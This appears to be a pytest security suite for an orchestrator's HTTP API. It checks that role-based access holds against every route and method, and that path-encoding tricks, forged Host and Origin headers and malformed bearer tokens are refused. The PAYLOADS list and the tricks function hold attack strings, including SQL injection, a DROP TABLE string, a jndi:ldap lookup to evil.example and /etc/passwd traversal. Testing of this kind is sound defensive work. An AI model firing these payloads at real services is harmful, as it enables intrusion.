"""Every route x method x kind of caller, on a running service with authentication on.

The matrix is made from the service's own routes, so a route that somebody adds is in it without a word.
"""

from __future__ import annotations

import asyncio
import re
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import httpx2
import pytest
from fastapi.routing import APIRoute, APIWebSocketRoute

from orchestrator.bootstrap import serve
from orchestrator.domain.access import GRANTS, Permission, Role
from orchestrator.domain.dialects import ENDPOINTS
from orchestrator.domain.errors import ConfigurationError
from orchestrator.entrypoints.http.app import control_plane
from orchestrator.entrypoints.http.permission import OPEN_BY_SETTING, OPEN_ROUTES, declared
from orchestrator.settings import load
from service import RunningService, running_service

KEYS = {role: f"key-of-the-{role.value}-0123456789" for role in Role}
CONFIG: dict[str, Any] = {
    "auth": {
        "enabled": True,
        "keys": [{"name": role.value, "key": key, "role": role.value} for role, key in KEYS.items()],
    },
    "security": {"rate_limit_max": None, "admin_rate_limit_max": None},
    "metrics": {"require_auth": True},
    "server": {"grace": 1},
}
OPEN = {
    ("GET", "/"),
    ("HEAD", "/"),
    ("GET", "/api/v1/health"),
    ("GET", "/health"),
    ("GET", "/health/live"),
    ("GET", "/health/ready"),
    ("GET", "/ready"),
}
STRANGE_METHODS = ("HEAD", "OPTIONS", "TRACE", "PUT", "PATCH", "DELETE", "POST", "GET", "BREW", "PROPFIND")
PLANES = pytest.mark.parametrize("plane", ["protocol", "asgi"])


@asynccontextmanager
async def guarded(tmp_path: Path, plane: str = "protocol") -> AsyncIterator[tuple[RunningService, httpx2.AsyncClient]]:
    config = CONFIG | {"server": {"grace": 1, "data_plane": plane}}
    async with (
        running_service(config, tmp_path) as running,
        httpx2.AsyncClient(base_url=running.url, timeout=20) as client,
    ):
        yield running, client


def bearer(key: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {key}"}


def routes(running: RunningService) -> Iterator[tuple[str, str, Permission | None]]:
    """Method, a path that matches, and the permission that is declared."""
    for route in control_plane(running.service).routes:
        if isinstance(route, APIWebSocketRoute):  # see `websockets`
            continue
        assert isinstance(route, APIRoute), f"{route} is not a route that can declare a permission"
        path = re.sub(r"\{[^}]+\}", "nobody", route.path)
        for method in sorted(route.methods or ()):
            yield method, path, declared(route)


def websockets(running: RunningService) -> Iterator[tuple[str, Permission | None]]:
    for route in control_plane(running.service).routes:
        if isinstance(route, APIWebSocketRoute):
            yield route.path, declared(route)


async def raw(running: RunningService, request: bytes) -> int:
    """Sends bytes as they are; the status of the answer, 0 when there was none."""
    port = int(running.url.rpartition(":")[2])
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    try:
        writer.write(request)
        async with asyncio.timeout(10):
            line = await reader.readline()
    except ConnectionError:
        return 0
    finally:
        writer.close()
    return int(line.split(b" ")[1]) if line else 0


def test_the_open_routes_are_these_and_no_others() -> None:
    assert OPEN_ROUTES == OPEN
    assert set(OPEN_BY_SETTING) <= {("GET", "/metrics")}


async def test_each_role_may_do_exactly_what_it_is_granted(tmp_path: Path) -> None:
    async with guarded(tmp_path) as (running, client):
        seen = 0
        for method, path, permission in routes(running):
            callers: list[tuple[str, dict[str, str], int | None]] = [
                ("nobody", {}, 401),
                ("a wrong key", bearer("key-of-nobody-0123456789"), 401),
            ]
            for role in Role:
                granted = permission is None or permission in GRANTS[role]
                callers.append((role.value, bearer(KEYS[role]), None if granted else 403))
            for name, headers, refusal in callers:
                body = {} if method != "GET" else None
                async with client.stream(method, path, headers=headers, json=body) as answer:
                    if not answer.headers.get("content-type", "").startswith("text/event-stream"):
                        await answer.aread()  # those have no end
                what = f"{method} {path} as {name}: {answer.status_code}"
                seen += 1
                if (method, path) in OPEN or refusal is None:
                    assert answer.status_code not in (401, 403), what
                    assert answer.status_code != 500, what
                else:
                    assert answer.status_code == refusal, what
                if answer.status_code == 401 and method != "HEAD":
                    assert "www-authenticate" in answer.headers, what
                    assert answer.json()["error"], what
        assert seen > 300


async def test_each_role_may_open_exactly_the_websockets_it_is_granted(tmp_path: Path) -> None:
    async with guarded(tmp_path) as (running, _):
        upgrade = {
            "Connection": "Upgrade",
            "Upgrade": "websocket",
            "Sec-WebSocket-Version": "13",
            "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==",
        }
        host, seen = running.url.removeprefix("http://"), 0
        for path, permission in websockets(running):
            assert permission is not None, path
            callers: list[tuple[dict[str, str], int]] = [({}, 401), (bearer("key-of-nobody-0123456789"), 401)]
            callers += [(bearer(KEYS[role]), 101 if permission in GRANTS[role] else 403) for role in Role]
            for headers, status in callers:
                lines = "".join(f"{name}: {value}\r\n" for name, value in {**upgrade, **headers}.items())
                request = f"GET {path} HTTP/1.1\r\nHost: {host}\r\n{lines}\r\n"
                assert await raw(running, request.encode()) == status, f"{path} {headers}"
                seen += 1
        assert seen >= len(Role) + 2


async def test_legacy_bodies_of_refusals(tmp_path: Path) -> None:
    async with guarded(tmp_path) as (_, client):
        missing = await client.get("/api/orchestrator/servers")
        assert missing.json()["error"] == "Authentication required"
        assert missing.json()["message"]
        wrong = await client.get("/api/orchestrator/servers", headers=bearer("wrong"))
        assert wrong.json()["error"] == "Authentication failed"
        assert wrong.json()["message"]


async def test_no_body_is_looked_at_before_the_key(tmp_path: Path) -> None:
    async with guarded(tmp_path) as (running, client):
        for method, path, _ in routes(running):
            if method in ("POST", "PUT", "PATCH") and path.startswith("/api/orchestrator"):
                answer = await client.request(
                    method, path, content=b"{broken", headers={"Content-Type": "application/json"}
                )
                assert answer.status_code == 401, f"{method} {path}"


async def test_no_other_method_opens_a_route(tmp_path: Path) -> None:
    async with guarded(tmp_path) as (running, client):
        known = {(method, path) for method, path, _ in routes(running)}
        for path in sorted({path for _, path in known}):
            for method in STRANGE_METHODS:
                if (method, path) in known:
                    continue
                answer = await client.request(method, path)
                assert answer.status_code in (400, 401, 404, 405), f"{method} {path}: {answer.status_code}"


def tricks(path: str) -> list[str]:
    return [
        f"{path}/health",
        f"{path}/../../health",
        f"{path}?/health",
        f"{path};/health",
        f"{path}#/health",
        f"{path}/",
        f"{path}//",
        f"/{path}",
        f"//{path}",
        f"/.{path}",
        f"/health/..{path}",
        f"/health/../..{path}",
        f"/health/%2e%2e{path}",
        f"/health%2f..{path}",
        f"/health;{path}",
        path.replace("/", "%2f"),
        path.replace("/", "%2F", 1),
        path.replace("/", "//"),
        path.replace("/", "\\"),
        path.replace("orchestrator", "%6frchestrator"),
        path.upper(),
        f"{path}%00",
        f"{path}%0d%0a",
        f"{path}.json",
        f"http://127.0.0.1{path}",
        f"http://evil.example{path}",
        f"http://127.0.0.1/health/..{path}",
    ]


async def test_no_spelling_of_a_path_goes_past_the_key(tmp_path: Path) -> None:
    async with guarded(tmp_path) as (running, _):
        host = running.url.removeprefix("http://").encode()
        protected = [path for method, path, permission in routes(running) if method == "GET" and permission]
        chosen = [path for path in protected if path.count("/") <= 3][:12]
        assert chosen
        for path in chosen:
            for trick in tricks(path):
                request = b"GET %b HTTP/1.1\r\nHost: %b\r\nConnection: close\r\n\r\n" % (trick.encode(), host)
                status = await raw(running, request)
                assert not 200 <= status < 300, f"{trick}: {status}"
                assert status < 500, f"{trick}: {status}"


@PLANES
async def test_inference_asks_for_a_key_that_may_use_it(tmp_path: Path, plane: str) -> None:
    async with guarded(tmp_path, plane) as (_, client):
        body = {
            "model": "m",
            "prompt": "x",
            "messages": [{"role": "user", "content": "x"}],
            "input": "x",
            "max_tokens": 1,
        }
        for path in ENDPOINTS:
            for form in (path, f"{path}--node", f"{path}?debug=true", f"{path}--node?bypass=true"):
                assert (await client.post(form, json=body)).status_code == 401, form
                wrong = await client.post(form, json=body, headers=bearer("key-of-nobody-0123456789"))
                assert wrong.status_code == 401, form
                for role, key in KEYS.items():
                    answer = await client.post(form, json=body, headers=bearer(key))
                    granted = Permission.INFERENCE_USE in GRANTS[role]
                    assert answer.status_code == (404 if granted else 403), f"{form} {role}: {answer.text}"


@PLANES
async def test_no_spelling_of_an_inference_path_goes_past_the_key(tmp_path: Path, plane: str) -> None:
    async with guarded(tmp_path, plane) as (running, _):
        host = running.url.removeprefix("http://").encode()
        body = b'{"model":"m","prompt":"x"}'
        for path in ("/api/generate", "/v1/chat/completions"):
            for method in (b"POST", b"post", b"GET", b"PUT", b"HEAD", b"OPTIONS"):
                for trick in (path, *tricks(path)):
                    head = b"%b %b HTTP/1.1\r\nHost: %b\r\nConnection: close\r\n" % (method, trick.encode(), host)
                    status = await raw(running, head + b"Content-Length: %d\r\n\r\n" % len(body) + body)
                    assert not 200 <= status < 300, f"{method!r} {trick}: {status}"
                    assert status < 500, f"{method!r} {trick}: {status}"


@PLANES
@pytest.mark.parametrize(
    ("lines", "status"),
    [
        (b"Host: evil.example\r\n", 421),
        (b"Host: 127.0.0.1.evil.example\r\n", 421),
        (b"Host: 127.0.0.1@evil.example\r\n", 421),
        (b"Host: %b\r\nHost: %b\r\n", 400),
        (b"Host: %b\r\nHost: evil.example\r\n", 400),
        (b"Host: %b\r\nOrigin: https://evil.example\r\n", 403),
        (b"Host: %b\r\nOrigin: null\r\n", 403),
        (b"Host: %b\r\nOrigin: http://127.0.0.1:1\r\n", 403),
        (b"", 421),
    ],
)
async def test_host_and_origin_are_checked_even_with_a_key(
    tmp_path: Path, plane: str, lines: bytes, status: int
) -> None:
    async with guarded(tmp_path, plane) as (running, _):
        lines = lines.replace(b"%b", running.url.removeprefix("http://").encode())
        key = b"Authorization: Bearer %b\r\n" % KEYS[Role.ADMIN].encode()
        for line in (b"GET /health HTTP/1.1", b"GET /api/orchestrator/servers HTTP/1.1"):
            found = await raw(running, line + b"\r\n" + lines + key + b"Connection: close\r\n\r\n")
            assert found in (status, 400), f"{line!r}: {found}"
        body = b'{"model":"m","prompt":"x"}'
        head = b"POST /api/generate HTTP/1.1\r\n" + lines + key
        found = await raw(running, head + b"Content-Length: %d\r\n\r\n" % len(body) + body)
        assert found in (status, 400), found


ADMIN_KEY = KEYS[Role.ADMIN].encode()
PAYLOADS = [
    b"",
    b"Bearer",
    b"Bearer ",
    b"Bearer  ",
    b"Basic YWRtaW46YWRtaW4=",
    b"Digest username=admin",
    b"Bearer null",
    b"Bearer undefined",
    b"Bearer *",
    b"Bearer %",
    b"Bearer ' OR '1'='1",
    b"Bearer '; DROP TABLE api_keys; --",
    b'Bearer " OR ""="',
    b"Bearer 1 UNION SELECT hash FROM api_keys",
    b"Bearer ${jndi:ldap://evil.example/a}",
    b"Bearer ../../../etc/passwd",
    b"Bearer \xff\xfe\xfd",
    b"Bearer \xc3\xa9",
    b"Bearer " + b"A" * 20_000,
    b"Bearer " + ADMIN_KEY + b" extra",
    b"Bearer " + ADMIN_KEY + b"' OR '1'='1",
    b"Bearer " + ADMIN_KEY[:-1],
    b"Bearer " + ADMIN_KEY.upper(),
    b"Bearer\x00" + ADMIN_KEY,
    b"Bearer," + ADMIN_KEY,
    ADMIN_KEY,
    b"Token " + ADMIN_KEY,
]


@PLANES
async def test_no_text_in_the_key_s_place_opens_anything(tmp_path: Path, plane: str) -> None:
    async with guarded(tmp_path, plane) as (running, _):
        host = running.url.removeprefix("http://").encode()
        body = b'{"model":"m","prompt":"x"}'
        for payload in PAYLOADS:
            for name in (b"Authorization", b"X-API-Key"):
                if name == b"X-API-Key" and payload == ADMIN_KEY:
                    continue  # that is where a bare key belongs
                field = b"%b: %b\r\nConnection: close\r\n" % (name, payload)
                reading = b"GET /api/orchestrator/keys HTTP/1.1\r\nHost: %b\r\n%b\r\n" % (host, field)
                using = b"POST /api/generate HTTP/1.1\r\nHost: %b\r\n%bContent-Length: %d\r\n\r\n%b" % (
                    host,
                    field,
                    len(body),
                    body,
                )
                for request in (reading, using):
                    status = await raw(running, request)
                    assert status in (400, 401, 431), f"{name!r} {payload[:60]!r}: {status}"


@PLANES
async def test_of_two_keys_none_counts_beyond_the_first(tmp_path: Path, plane: str) -> None:
    async with guarded(tmp_path, plane) as (running, client):
        host = running.url.removeprefix("http://").encode()
        fields = b"Authorization: Bearer wrong\r\nAuthorization: Bearer %b\r\n" % ADMIN_KEY
        status = await raw(
            running,
            b"GET /api/orchestrator/keys HTTP/1.1\r\nHost: %b\r\n%bConnection: close\r\n\r\n" % (host, fields),
        )
        assert status in (400, 401)
        assert (await client.get(f"/api/orchestrator/keys?apiKey={KEYS[Role.ADMIN]}")).status_code == 401


@pytest.mark.parametrize("host", ["0.0.0.0", "::", "192.0.2.1", "example.com"])
async def test_an_address_that_others_reach_is_refused_without_authentication(tmp_path: Path, host: str) -> None:
    flags = {"server.host": host, "server.port": 0, "data_dir": str(tmp_path)}
    file = tmp_path / "none.yaml"
    file.write_text("{}")
    with pytest.raises(ConfigurationError, match=r"auth\.enabled"):
        await serve(load(file, {}, flags))
